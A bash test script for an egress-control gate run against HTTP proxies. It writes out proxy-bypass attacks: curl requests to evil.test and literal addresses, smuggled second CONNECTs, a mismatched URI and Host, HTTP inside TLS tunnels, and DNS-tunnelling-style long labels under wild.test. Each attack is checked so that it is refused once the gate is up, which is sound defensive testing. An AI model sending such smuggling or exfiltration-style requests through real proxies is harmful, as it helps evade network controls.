#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2329
# HTTP proxies and WebSocket: a real proxy (tinyproxy) and one of our own that asks for a password and keeps its connections.
# What is asked of a proxy is judged as a name; what goes through a tunnel must be what CONNECT said; nothing goes before
# the proxy agreed.
. "$(dirname "$0")/lib.sh"
TINYPROXY=$(command -v tinyproxy || echo "$TOOLS/tinyproxy-bin/usr/bin/tinyproxy")
bed
capture s s0
export CA
resolver s 198.18.2.53

# mirror.test is the proxy: tinyproxy on 3128, ours on 3129; rooms on 8081 (ws://) and 8082 (http:// alone).
proxies_up() {
    local address port what
    printf '%s\n' "User root" "Group root" "Port 3128" "Listen 198.18.2.81" "Listen 2001:db8:2::81" "Timeout 60" "MaxClients 50" \
        'LogLevel Info' "ConnectPort 443" "ConnectPort 2525" "PidFile \"$T/tinyproxy.pid\"" > "$T/tinyproxy.conf"
    start "$T/tinyproxy.log" s "$TINYPROXY" -d -c "$T/tinyproxy.conf"
    for address in 198.18.2.81 2001:db8:2::81; do
        for what in serve.3129 rooms.8081 rooms.8082; do
            port=${what#*.}
            start "$T/$what.$address" s "$PYTHON" "$ROOT/tests/netns/proxy.py" "${what%.*}" $address "$port"
            eventually 15 grep -q ready "$T/$what.$address" || { cat "$T/$what.$address" && exit 1; }
        done
        eventually 10 h s bash -c 'exec 3<> "/dev/tcp/$1/3128"' sh $address 2> /dev/null || { cat "$T/tinyproxy.log" && exit 1; }
    done
}

resolve() { client getent ahosts "$1" > /dev/null; }
say() { client "$PYTHON" "$ROOT/tests/netns/proxy.py" say "$@"; }
via() { fetch -x http://mirror.test:3128 "$@"; }
basic() { printf 'Proxy-Authorization: Basic %s' "$(printf %s user:secret | base64)"; }
# connect HOST:PORT [MORE-HEAD]: the bytes of a request.
connect() { printf 'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\n\\r\\n' "$1" "$1" "$(basic)"; }
upgrade() { printf 'GET /room HTTP/1.1\\r\\nHost: %s\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nX: %s\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n' "$1" "$2"; }

by_curl() {
    local v
    for v in -4 -6; do
        via $v http://allowed.test/hello | grep 'hello from allowed.test'
        via $v https://allowed.test/hello | grep 'hello from allowed.test'
        via $v --http2 -w '%{http_version}\n' https://allowed.test/hello | grep -x 2
    done
    via --tls-max 1.2 https://allowed.test/hello | grep hello
    [ "$(via https://allowed.test/medium | sha256sum)" = "$(sha256sum < "$T/www/medium")" ]
    [ "$(via http://allowed.test/medium | sha256sum)" = "$(sha256sum < "$T/www/medium")" ]
    via --data-binary "@$T/www/index.html" -H 'Expect: 100-continue' https://allowed.test/hello | grep hello
}
# The client does not resolve what it asks the proxy for: nothing is bound.
by_name_alone() {
    via https://v4only.test/hello | grep 'hello from v4only.test'
    grep -q 'query.*mirror.test from 198.18.1' "$T/dns.log" # as a client's question looks
    fails grep -q 'query.*v4only.test from 198.18.1' "$T/dns.log"
}
by_environment() {
    client env https_proxy=http://mirror.test:3128 http_proxy=http://mirror.test:3128 CURL_CA_BUNDLE="$CA" SSL_CERT_FILE="$CA" "$PYTHON" -c '
import urllib.request
for url in "https://allowed.test/hello", "http://allowed.test/hello":
    print(urllib.request.urlopen(url, timeout=60).read().decode(), end="")' > "$T/out"
    [ "$(grep -c 'hello from allowed.test' "$T/out")" = 2 ]
}
any_bytes() {
    resolve mirror.test
    client "$PYTHON" - > "$T/out" <<'PY'
import socket
s = socket.create_connection(("198.18.2.81", 3128), timeout=60)
s.sendall(b"CONNECT tcp.test:2525 HTTP/1.1\r\nHost: tcp.test:2525\r\n\r\n")
f = s.makefile("rwb")
assert b" 200 " in f.readline()
while f.readline().strip():
    pass
assert f.readline().startswith(b"220 ")
for i in range(20):
    line = b"%d" % i * 20000 + b"\n"
    f.write(line)
    f.flush()
    assert f.readline() == b"250 " + line
print("same")
PY
    grep same "$T/out"
}
# 407 with a body, then the same again with credentials, on one connection; they are in no event.
password() {
    fetch --proxy-anyauth -U user:secret -x http://mirror.test:3129 -w '%{num_connects}\n' https://allowed.test/hello > "$T/out"
    has 'hello from allowed.test' "$T/out"
    has '^1$' "$T/out"
    fetch -U user:secret -x http://mirror.test:3129 http://allowed.test/hello | grep hello
    fetch -x http://user:secret@mirror.test:3129 https://allowed.test/hello | grep hello
    fails fetch -x http://user:wrong@mirror.test:3129 https://allowed.test/hello
    refused not_in_allowlist other.test client curl -sS --max-time 20 -x http://user:secret@mirror.test:3129 https://other.test/
    sleep 0.3
    fails grep -aE "user:secret|$(printf %s user:secret | base64)" "$T/events"
}
patience() { fetch -U user:secret -x http://mirror.test:3129 --resolve slow-allowed.test:443:198.18.2.80 --connect-to slow-allowed.test:443:slow-allowed.test:443 -k https://slow-allowed.test/hello | grep hello; }
events_name_the_target() {
    via https://cdn.test/hello | grep hello
    eventually 10 target_seen
}
target_seen() {
    jq -e 'select(.destination.domain == "cdn.test" and .url.port == 443 and .http.request.method == "CONNECT" and .destination.port == 3128)' < "$T/events" | grep -q .
}

# Attacks: each reaches something without the gate.
other_target() { client curl -s --max-time 20 -k -x http://mirror.test:3128 "https://$1.evil.test/"; }
other_target_http() { client curl -s --max-time 20 -x http://mirror.test:3128 "http://evil.test/$1"; }
literal() { client curl -s --max-time 20 -x http://mirror.test:3128 "http://198.18.3.66/$1"; }
literal_6() { client curl -s --max-time 20 -x http://mirror.test:3128 "http://[2001:db8:3::66]/$1"; }
after_407() { resolve mirror.test; say 198.18.2.81 3129 "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n" '?' "$(connect evil.test:80)" '?' "$1"; }
uri_and_host() { resolve mirror.test; say 198.18.2.81 3129 "GET http://evil.test/$1 HTTP/1.1\r\nHost: allowed.test\r\n$(basic)\r\n\r\n" '?'; }
second_connect() { resolve mirror.test; say 198.18.2.81 3129 "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n$(connect evil.test:80)" '?' '?' "$1"; }
reaches_web() {
    local n
    n=$(nonce)
    "$1" "$n" || true
    eventually 10 expect_arrived "$n" s > /dev/null || die "even without the gate it did not arrive: $1"
}
# reset REASON WHAT FUNCTION: the server s sees nothing of it, and an event says why.
refused_at() {
    local n from
    n=$(nonce)
    from=$(wc -l < "$T/events")
    "$3" "$n" || true
    expect_not_arrived "$n" s
    said "$from" "$1" "${2:-$n}"
}
other_name_inside() { resolve mirror.test; say 198.18.2.81 3128 "$(connect allowed.test:443)" '?' "TLS=$1.other.test"; }
http_inside() { resolve mirror.test; say 198.18.2.81 3128 "$(connect allowed.test:443)" '?' "GET /$1 HTTP/1.1\r\nHost: evil.test\r\n\r\n"; }
origin_form() { resolve mirror.test; say 198.18.2.81 3128 "GET /$1 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"; }
connect_elsewhere() { resolve mirror.test; say 198.18.2.81 8082 "CONNECT $1.test:443 HTTP/1.1\r\nHost: $1.test:443\r\n\r\n"; }
room() { resolve mirror.test; say 198.18.2.81 "$1" "$(upgrade "mirror.test:$1" "$2")" '?' ECHO; }
room_unasked() { room 8082 "$1"; }
h2_prior() { resolve mirror.test; say 198.18.2.81 8082 "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n$1"; }
# The proxy asks for the name, so that the name's own servers read it.
asked_by_proxy() { grep -c "query.*$1\.wild\.test" "$T/dns.log"; }
tell_proxy() { client curl -4s --max-time 20 -k -U user:secret -x http://mirror.test:3129 "https://$1.wild.test/"; }
names_reach_dns() {
    local n
    n=$(nonce)
    tell_proxy "long-label-with-$n" || true
    eventually 10 asked_by_proxy "long-label-with-$n" || die "without the gate no resolver heard of it"
}
names_have_a_budget() {
    local n from i heard=0
    n=$(nonce)
    from=$(wc -l < "$T/events")
    for i in {1..6}; do tell_proxy "$i$n" || true; done
    for i in {1..6}; do if [ "$(asked_by_proxy "$i$n")" -gt 0 ]; then heard=$((heard + 1)); fi; done
    [ $heard = 3 ] || die "the resolver heard of $heard names, not 3" || return 1
    said "$from" tunnel_suspected "4$n.wild.test"
    tell_proxy "long-label-with-$n" || true
    fails asked_by_proxy "long-label-with-$n"
    said "$from" tunnel_suspected "long-label-with-$n.wild.test"
    "$SLUICE" check "$T/policy.yaml" > "$T/out"
    has 'names_per_minute 3, label_bytes 15, bytes_per_hour 65536' "$T/out"
    has '(label_bytes: 15)' "$T/gate.log"
}
rooms_work() {
    room 8081 x | grep -x echoed
    fails room 8082 x
    say 198.18.2.81 8082 'GET / HTTP/1.1\r\nHost: mirror.test:8082\r\n\r\n' '?' | grep 200
    # Not agreed to: requests go on.
    resolve mirror.test
    say 2001:db8:2::81 8081 "$(upgrade mirror.test:8081 x | sed 's|/room|/none|')" '?' 'GET / HTTP/1.1\r\nHost: mirror.test:8081\r\n\r\n' '?' > "$T/out"
    [ "$(grep -c 200 "$T/out")" = 2 ]
}

proxies_up
for name in other_target other_target_http literal literal_6 after_407 uri_and_host second_connect; do
    check "without the gate $name reaches the attacker" attack_reaches $name
done
for name in other_name_inside http_inside origin_form room_unasked h2_prior connect_elsewhere; do
    check "without the gate $name reaches the server" reaches_web $name
done
check "without the gate a name that a proxy is asked for reaches DNS" names_reach_dns
for form in output forward; do
    FORM=$form
    PROFILE_MORE='dns: { budget: { names_per_minute: 3, label_bytes: 15 } }'
    policy "$T/policy.yaml" '"**.wild.test"' proxy://mirror.test:3128 proxy://mirror.test:3129 allowed.test http://allowed.test v4only.test cdn.test slow-allowed.test \
        tcp://tcp.test:2525 http://mirror.test:8082 ws://mirror.test:8081
    gate_up $form "$T/policy.yaml"
    check "by name alone: what is asked of a proxy is not resolved here" by_name_alone
    check "curl through tinyproxy: http, https, HTTP/2, v4, v6" by_curl
    check "a client that reads the environment" by_environment
    check "any bytes in a tunnel to a tcp:// entry" any_bytes
    check "a password: 407, then again; in no event" password
    check "a proxy that takes its time" patience
    check "events name what was asked for" events_name_the_target
    check "CONNECT to a name that is not allowed" attack_refused not_in_allowlist '' other_target
    check "the same by http://" attack_refused not_in_allowlist '' other_target_http
    check "a literal address" attack_refused http_address 198.18.3.66 literal
    check "a literal address (v6)" attack_refused http_address 2001:db8:3::66 literal_6
    check "another target after 407" attack_refused not_in_allowlist evil.test after_407
    check "the URI is not Host" attack_refused http_host_differs mirror.test uri_and_host
    check "two CONNECTs in one packet: the second waits, and is judged" attack_refused not_in_allowlist evil.test second_connect
    check "another server name inside the tunnel" refused_at proxy_name '' other_name_inside
    check "plain HTTP inside a tunnel that is for TLS" refused_at tls_expected allowed.test http_inside
    check "names below a wildcard, asked of a proxy: within the budget" names_have_a_budget
    check "origin form, asked of a proxy" refused_at proxy_form mirror.test origin_form
    check "CONNECT to what is no proxy" refused_at http_connect proxy://mirror.test:8082 connect_elsewhere
    check "WebSocket without ws://" refused_at http_websocket ws://mirror.test:8082 room_unasked
    check "HTTP/2 by prior knowledge" refused_at http_2 mirror.test h2_prior
    check "WebSocket with ws://, and the server's no" rooms_work
    gate_down
done

run_command() {
    h c "$SLUICE" run --allow proxy://mirror.test:3128 --allow allowed.test -- curl -sS --cacert "$CA" --max-time 60 -x http://mirror.test:3128 https://allowed.test/hello > "$T/out" 2> "$T/err.run"
    has 'hello from allowed.test' "$T/out"
    fails h c "$SLUICE" run --allow proxy://mirror.test:3128 --allow allowed.test -- curl -sS --max-time 60 -x http://mirror.test:3128 https://other.test/ 2> "$T/err.run"
    has '--allow other.test' "$T/err.run"
}
FORM=
check "sluice run --allow proxy://" run_command
finish
